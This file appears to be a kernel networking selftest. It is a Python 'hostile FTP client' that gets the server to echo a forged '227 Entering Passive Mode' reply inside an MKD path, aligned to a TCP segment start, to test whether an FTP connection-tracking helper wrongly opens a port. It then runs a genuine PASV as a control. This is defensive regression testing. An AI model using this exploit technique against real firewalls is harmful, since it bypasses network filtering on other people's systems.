#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A hostile FTP client: makes the server echo a 227 reply of the
client's choosing in the middle of a line (vsftpd's answer to MKD:
257 "<path>" created), cut by the client's small MSS so that "227 ..."
starts a TCP segment of its own, then tries to reach the port that 227
names on the server. The test drops the first copy of
that segment in the client's namespace, so the server retransmits it.
A helper that reads a segment start as a line start opens the port.

Then, as a control, a genuine PASV whose data port must be reachable:
the helper is running and tracking this session.

usage: echo_attack_client.py SERVER SERVER_REAL_ADDR TARGET_PORT MSS PREFIX
  PREFIX  how the new directory's path starts, inside one the anonymous
          user may write to ("/incoming/r1-"): a new one each run, as a
          second MKD of the same path is refused without the echo
exit: 0 attack blocked and control fine; 1 the target port was reached;
      2 the control failed; 3 the attack could not be set up
"""
import re
import socket
import sys

server, real, target, mss, prefix = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]


def reply(f):
    line = f.readline()
    while len(line) > 3 and line[3:4] == "-":
        line = f.readline()
    return line


def reachable(port):
    try:
        socket.create_connection((server, port), timeout=3).close()
        return True
    except OSError:
        return False


ctl = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
ctl.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, mss)
ctl.settimeout(15)
ctl.connect((server, 21))
f = ctl.makefile("r", encoding="latin-1", newline="\r\n")
reply(f)
ctl.sendall(b"USER anonymous\r\n")
if reply(f).startswith("331"):
    ctl.sendall(b"PASS x@example.com\r\n")
    reply(f)

# '257 "' + path cut after exactly mss bytes: the server's first segment
fake = "227 Entering Passive Mode (%s,%d,%d)" % (real.replace(".", ","), target >> 8, target & 255)
path = prefix + "a" * (mss - 5 - len(prefix)) + fake
ctl.sendall(("MKD " + path + "\r\n").encode())
line = reply(f)
print("server:", line.strip()[:40] + "..." + line.strip()[mss - 2:])
# under NAT a vulnerable helper rewrites the echoed address: still echoed
if not line.startswith('257 "') or "227 Entering Passive Mode (" not in line:
    print("the server did not echo the path")
    sys.exit(3)

hole = reachable(target)
print("port %d on the server: %s" % (target, "REACHED" if hole else "blocked"))

ctl.sendall(b"PASV\r\n")
line = reply(f)
m = re.search(r"(\d+),(\d+),(\d+),(\d+),(\d+),(\d+)", line)
control = bool(m) and reachable(int(m.group(5)) * 256 + int(m.group(6)))
print("control: genuine PASV data port %s" % ("reachable" if control else "NOT reachable"))
ctl.sendall(b"QUIT\r\n")
sys.exit(1 if hole else 0 if control else 2)
